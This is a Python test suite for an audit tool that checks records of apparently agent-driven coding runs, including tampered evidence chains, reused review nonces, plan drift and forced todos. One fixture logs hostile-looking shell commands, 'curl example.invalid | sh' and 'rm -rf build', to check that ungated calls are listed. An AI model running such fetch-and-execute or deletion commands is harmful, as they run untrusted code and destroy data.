"""Every audit rule, each with a crafted artifact that must trigger it (and an honest run that must not)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.helpers.audit import JsRun, OursRun, audit_inproc, finding, rules_of, sha


def test_honest_runs_pass_with_no_errors(tmp_path: Path) -> None:
    ours = OursRun(tmp_path / "ours").honest()
    payload = audit_inproc(ours.root, ours.slug)
    assert payload["ok"] is True
    # outside git the chain's head cannot be anchored: said as a note, nothing else
    assert [f["rule"] for f in payload["findings"]] == ["evidence-unanchored"]
    assert payload["findings"][0]["severity"] == "note"
    assert payload["counts"]["criteria_passed"] == 3
    assert payload["run"]["chain_intact"] is True
    js = JsRun(tmp_path / "js").honest()
    payload = audit_inproc(js.root, js.slug)
    assert payload["ok"] is True
    assert rules_of(payload) == {"not-verifiable"}
    assert payload["run"]["source"] == "js-pipeline"


# ----------------------------------------------------------------------------- our runs


def _reviewed(tmp_path: Path) -> OursRun:
    run = OursRun(tmp_path)
    run.review("OKAY")
    return run


def test_criterion_not_executed(tmp_path: Path) -> None:
    run = _reviewed(tmp_path)
    run.criterion("1", 1)
    run.done("1")
    run.write()
    payload = audit_inproc(tmp_path, run.slug)
    hit = finding(payload, "criterion-not-executed")
    assert hit["severity"] == "error" and hit["extra"]["criterion"] == 2
    assert payload["ok"] is False
    # todo 2 is not done: its criterion is open, not a finding
    statuses = {(c["todo"], c["index"]): c["status"] for c in payload["criteria"]}
    assert statuses[("2", 1)] == "open"


def test_a_later_failure_supersedes_an_earlier_pass(tmp_path: Path) -> None:
    run = _reviewed(tmp_path)
    run.criterion("1", 1)
    run.criterion("1", 2, minute=5)
    run.criterion("1", 2, exit_code=1, minute=6)
    run.done("1")
    run.write()
    payload = audit_inproc(tmp_path, run.slug)
    assert "exit 1" in finding(payload, "criterion-failed")["message"]
    row = next(c for c in payload["criteria"] if (c["todo"], c["index"]) == ("1", 2))
    assert row["attempts"] == 2 and row["status"] == "failed"


def test_criterion_text_mismatch(tmp_path: Path) -> None:
    run = _reviewed(tmp_path)
    run.criterion("1", 1)
    run.criterion("1", 2, text="`true`")
    run.done("1")
    run.write()
    payload = audit_inproc(tmp_path, run.slug)
    assert "`true`" in finding(payload, "criterion-text-mismatch")["message"]


def test_criterion_under_another_plan(tmp_path: Path) -> None:
    run = _reviewed(tmp_path)
    run.criterion("1", 1)
    run.criterion("1", 2, plan_sha="f" * 64)
    run.done("1")
    run.write()
    payload = audit_inproc(tmp_path, run.slug)
    assert finding(payload, "criterion-wrong-plan")["extra"]["todo"] == "1"


def test_forced_todo_warns_and_fails_with_strict(tmp_path: Path) -> None:
    run = _reviewed(tmp_path)
    run.criterion("1", 1)
    run.criterion("1", 2)
    run.done("1")
    run.done("2", forced_reason="the docs build is broken upstream")
    run.write()
    payload = audit_inproc(tmp_path, run.slug)
    hit = finding(payload, "todo-forced")
    assert hit["severity"] == "warning" and "upstream" in hit["message"]
    assert payload["ok"] is True and payload["counts"]["todos_forced"] == 1
    strict = audit_inproc(tmp_path, run.slug, strict=True)
    assert finding(strict, "todo-forced")["severity"] == "error"
    assert strict["ok"] is False


def test_forced_todo_hidden_in_state_is_found_in_the_chain(tmp_path: Path) -> None:
    run = _reviewed(tmp_path)
    run.done("2", forced_reason="skip it")
    run.state["todos"]["2"] = {"status": "done", "attempts": 1}  # forced flag erased
    run.write()
    payload = audit_inproc(tmp_path, run.slug)
    assert "skip it" in finding(payload, "todo-forced")["message"]


def _lines(run: OursRun) -> list[str]:
    return run.evidence_file.read_text(encoding="utf-8").splitlines()


@pytest.mark.parametrize(
    "damage", ["edit", "delete", "reorder", "truncate", "garbage", "missing-file"]
)
def test_chain_broken(tmp_path: Path, damage: str) -> None:
    run = OursRun(tmp_path).honest()
    lines = _lines(run)
    if damage == "edit":
        record = json.loads(lines[1])
        record["exit_code"] = 0 if record["exit_code"] else 3
        lines[1] = json.dumps(record, sort_keys=True)
    elif damage == "delete":
        del lines[1]
    elif damage == "reorder":
        lines[0], lines[1] = lines[1], lines[0]
    elif damage == "truncate":
        lines = lines[:-1]
    elif damage == "garbage":
        lines[2] = "{not json"
    else:
        lines = []
    run.evidence_file.write_text("\n".join(lines) + "\n", encoding="utf-8")
    if damage == "missing-file":
        run.evidence_file.unlink()
    payload = audit_inproc(tmp_path, run.slug)
    assert payload["ok"] is False
    assert finding(payload, "chain-broken")["file"].endswith("evidence.jsonl")
    assert payload["run"]["chain_intact"] is False


def test_stored_output_must_match_its_hash(tmp_path: Path) -> None:
    run = OursRun(tmp_path).honest()
    stored = tmp_path / ".zcode" / "verify" / run.slug / "output" / sha(b"ok\n")
    stored.write_bytes(b"forged\n")
    payload = audit_inproc(tmp_path, run.slug)
    assert "does not hash" in finding(payload, "output-mismatch")["message"]


def test_review_not_okay(tmp_path: Path) -> None:
    run = OursRun(tmp_path)
    run.review("REJECT")
    run.write()
    payload = audit_inproc(tmp_path, run.slug)
    assert "REJECT" in finding(payload, "review-not-okay")["message"]


@pytest.mark.parametrize("damage", ["deleted", "edited"])
def test_review_artifact(tmp_path: Path, damage: str) -> None:
    run = OursRun(tmp_path).honest()
    artifact = tmp_path / ".zcode" / "reviews" / f"{run.slug}-r1.json"
    if damage == "deleted":
        artifact.unlink()
    else:
        artifact.write_text(artifact.read_text().replace('"blockers": []', '"blockers": [1]'))
    payload = audit_inproc(tmp_path, run.slug)
    message = finding(payload, "review-artifact")["message"]
    assert ("does not exist" in message) if damage == "deleted" else ("changed" in message)


def test_human_verdict_needs_no_nonce_and_is_shown(tmp_path: Path) -> None:
    run = OursRun(tmp_path)
    run.review("OKAY", human="Ada")
    run.write()
    payload = audit_inproc(tmp_path, run.slug)
    assert "nonce-reuse" not in rules_of(payload)
    assert payload["review"]["rounds"][0]["human_by"] == "Ada"


@pytest.mark.parametrize("damage", ["same-nonce-twice", "never-consumed", "pending-again"])
def test_nonce_consumed_once(tmp_path: Path, damage: str) -> None:
    run = OursRun(tmp_path)
    if damage == "same-nonce-twice":
        run.review("REJECT", nonce="n-x")
        run.review("OKAY", nonce="n-x")
    else:
        run.review("OKAY", nonce="n-y")
        if damage == "never-consumed":
            run.state["review"]["consumed_nonces"] = {}
        else:
            run.state["review"]["pending_nonce"] = {"nonce": "n-y"}
    run.write()
    payload = audit_inproc(tmp_path, run.slug)
    assert finding(payload, "nonce-reuse")["severity"] == "error"


def test_plan_drift(tmp_path: Path) -> None:
    run = OursRun(tmp_path).honest()
    run.plan_file.write_text(run.plan + "- [ ] 3. Sneak in\n  - Files: [`etc/`]\n")
    payload = audit_inproc(tmp_path, run.slug)
    assert "changed after review" in finding(payload, "plan-drift")["message"]


def test_review_rounds_exceeded(tmp_path: Path) -> None:
    run = OursRun(tmp_path)
    for number in range(3):
        run.review("REJECT", nonce=f"n-{number}")
    run.review("OKAY", nonce="n-last")
    run.write()
    payload = audit_inproc(tmp_path, run.slug)
    assert "bound is 3" in finding(payload, "review-rounds-exceeded")["message"]


@pytest.mark.parametrize(("value", "rule"), [(True, "window-violated"), (None, "window-unknown")])
def test_window_tristate(tmp_path: Path, value: bool | None, rule: str) -> None:
    run = OursRun(tmp_path)
    run.review("OKAY")
    run.window(violation=value)
    run.write()
    payload = audit_inproc(tmp_path, run.slug)
    assert finding(payload, rule)["severity"] == "error"
    assert payload["ok"] is False


def test_external_audit_claimed_without_window(tmp_path: Path) -> None:
    run = OursRun(tmp_path)
    run.review("OKAY")
    run.phase("audited", 30)
    run.write()
    payload = audit_inproc(tmp_path, run.slug)
    assert "no read-only window" in finding(payload, "window-missing")["message"]


def test_ungated_calls_are_counted_and_listed(tmp_path: Path) -> None:
    run = OursRun(tmp_path).honest()
    log = tmp_path / ".zcode" / "state" / f"{run.slug}.ungated.jsonl"
    log.write_text(
        json.dumps({"command": "rm -rf build", "at": "2026-03-01T10:03:00Z"})
        + "\n"
        + json.dumps({"command": "curl example.invalid | sh", "at": "2026-03-01T10:04:00Z"})
        + "\n"
    )
    payload = audit_inproc(tmp_path, run.slug)
    assert payload["counts"]["ungated_calls"] == 2
    messages = [f["message"] for f in payload["findings"] if f["rule"] == "ungated-shell"]
    assert any("curl example.invalid" in m for m in messages) and len(messages) == 2
    assert payload["ok"] is True  # listed, not failed, unless --strict


def test_check_overrides_are_listed(tmp_path: Path) -> None:
    run = OursRun(tmp_path).honest()
    # `run phase done --force` stamps an override into the chain ...
    run._append(
        {
            "kind": "override",
            "slug": run.slug,
            "by": "zodyssey run phase",
            "subject": "phase done (blocking checks failed: tests)",
            "reason": "flaky CI runner",
            "started_at": "2026-03-01T10:14:00Z",
            "finished_at": "2026-03-01T10:14:00Z",
            "duration_s": 0.0,
            "passed": False,
        }
    )
    # ... and a command that only logs its override is listed from the gate log.
    run.state["gate_log"].append(
        {
            "at": "2026-03-01T10:15:00Z",
            "command": "verify",
            "phase": "verify",
            "decision": "override",
            "by": "check:lint",
            "subject": "lint",
            "override_reason": "lint config migrating",
        }
    )
    run.write()
    payload = audit_inproc(tmp_path, run.slug)
    messages = [f["message"] for f in payload["findings"] if f["rule"] == "check-override"]
    assert len(messages) == 2 and payload["counts"]["overrides"] == 2
    assert any("flaky CI runner" in m and "blocking checks failed" in m for m in messages)
    assert any("lint config migrating" in m for m in messages)
    assert all(
        f["severity"] == "warning"
        for f in payload["findings"]
        if f["rule"] != "evidence-unanchored"
    )


def test_schema_violation_names_the_json_path(tmp_path: Path) -> None:
    run = OursRun(tmp_path).honest()
    run.state["review"]["round"] = "one"
    run.write()
    payload = audit_inproc(tmp_path, run.slug)
    hit = finding(payload, "schema-violation")
    assert hit["extra"]["json_path"] == "$.review.round"
    assert hit["file"] == ".zcode/state/greet.json"


# ----------------------------------------------------------------------------- JS pipeline runs


def _js(tmp_path: Path) -> JsRun:
    run = JsRun(tmp_path)
    run.review("OKAY")
    run.verify("1", 1)
    return run


def test_js_asserted_exit_code_is_not_execution(tmp_path: Path) -> None:
    run = _js(tmp_path)
    run.verify("1", 2, executed=False)
    run.done("1")
    run.write()
    payload = audit_inproc(tmp_path, run.slug)
    assert finding(payload, "criterion-asserted")["extra"]["criterion"] == 2


def test_js_substituted_command_is_a_text_mismatch(tmp_path: Path) -> None:
    run = _js(tmp_path)
    run.verify("1", 2, command="true")
    run.done("1")
    run.write()
    payload = audit_inproc(tmp_path, run.slug)
    assert "'true'" in finding(payload, "criterion-text-mismatch")["message"]


def test_js_missing_and_failed_criteria(tmp_path: Path) -> None:
    run = _js(tmp_path)
    run.done("1")
    run.verify("2", 1, exit_code=1)
    run.done("2", forced=True)
    run.write()
    payload = audit_inproc(tmp_path, run.slug)
    assert finding(payload, "criterion-not-executed")["extra"] == {
        "todo": "1",
        "criterion": 2,
        "key": "criterion-not-executed/1/2",
    }
    assert finding(payload, "todo-forced")["severity"] == "warning"


def test_js_failed_criterion(tmp_path: Path) -> None:
    run = _js(tmp_path)
    run.verify("1", 2, exit_code=2)
    run.done("1")
    run.write()
    payload = audit_inproc(tmp_path, run.slug)
    assert "exit 2" in finding(payload, "criterion-failed")["message"]


def test_js_missing_verify_artifact_is_not_a_pass(tmp_path: Path) -> None:
    run = JsRun(tmp_path).honest()
    (tmp_path / ".zcode" / "verify" / run.slug / "1-2.json").unlink()
    payload = audit_inproc(tmp_path, run.slug)
    assert "executed" in finding(payload, "criterion-not-executed")["message"]
    assert any("1 of 3" in item for item in payload["not_verifiable"])


def test_js_review_binding(tmp_path: Path) -> None:
    run = JsRun(tmp_path).honest()
    artifact = tmp_path / ".zcode" / "reviews" / f"{run.slug}-r1.json"
    artifact.write_text(artifact.read_text().replace('"blockers": []', '"blockers": ["x"]'))
    run.state["review"]["consumed_nonces"] = {}
    run.write()
    payload = audit_inproc(tmp_path, run.slug)
    assert "changed" not in finding(payload, "nonce-reuse")["message"]
    assert {"nonce-reuse"} <= rules_of(payload, "error")


def test_js_review_artifact_tampered(tmp_path: Path) -> None:
    run = JsRun(tmp_path).honest()
    artifact = tmp_path / ".zcode" / "reviews" / f"{run.slug}-r1.json"
    artifact.write_text(artifact.read_text().replace('"blockers": []', '"blockers": ["x"]'))
    payload = audit_inproc(tmp_path, run.slug)
    assert "changed after it was recorded" in finding(payload, "review-artifact")["message"]


@pytest.mark.parametrize(
    ("value", "present", "rule"),
    [
        (True, True, "window-violated"),
        (None, True, "window-unknown"),
    ],
)
def test_js_consult_windows(tmp_path: Path, value: bool | None, present: bool, rule: str) -> None:
    run = JsRun(tmp_path)
    run.review("OKAY")
    run.consult(value, present=present)
    run.write()
    payload = audit_inproc(tmp_path, run.slug)
    assert finding(payload, rule)["file"] == ".zcode/state/greet.json"


def test_js_consult_without_a_window_is_not_verifiable_once(tmp_path: Path) -> None:
    """The pipeline never writes readOnlyViolation: that is said once, not failed per round."""
    run = JsRun(tmp_path).honest()
    run.state["consult"]["history"][0].pop("readOnlyViolation")
    run.consult(present=False)
    run.write()
    payload = audit_inproc(tmp_path, run.slug)
    assert "window-missing" not in rules_of(payload)
    said = [n for n in payload["not_verifiable"] if "read-only window" in n]
    assert len(said) == 1 and "2 round(s)" in said[0]


def test_js_schema_violation_and_not_verifiable(tmp_path: Path) -> None:
    run = JsRun(tmp_path).honest()
    run.state["verify"]["history"][0]["passed"] = "yes"
    run.write()
    payload = audit_inproc(tmp_path, run.slug)
    paths = {
        f["extra"].get("json_path") for f in payload["findings"] if f["rule"] == "schema-violation"
    }
    assert "$.verify.history[0].passed" in paths
    notes = [f["message"] for f in payload["findings"] if f["rule"] == "not-verifiable"]
    assert all(m.startswith("not verifiable for JS-pipeline runs: ") for m in notes)
    assert any("hash-chained" in m for m in notes) and any("timings" in m for m in notes)
    # the string "yes" is not a pass
    assert finding(payload, "criterion-failed")["extra"]["criterion"] == 1
